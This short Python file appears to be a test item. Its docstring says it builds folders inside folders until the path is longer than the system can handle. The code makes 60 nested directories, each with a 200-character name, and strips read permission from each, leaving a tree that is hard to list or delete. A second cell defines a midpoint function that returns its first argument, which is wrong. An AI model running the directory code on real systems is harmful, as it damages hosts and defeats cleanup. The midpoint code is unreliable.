"""Makes folders in folders until the path to them is longer than the system can say.

kind: outlive
A, B, C: nothing
"""

# %%
import os

for _ in range(60):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
    os.chmod(".", 0o300)


# %%
def midpoint(a, b):
    return a
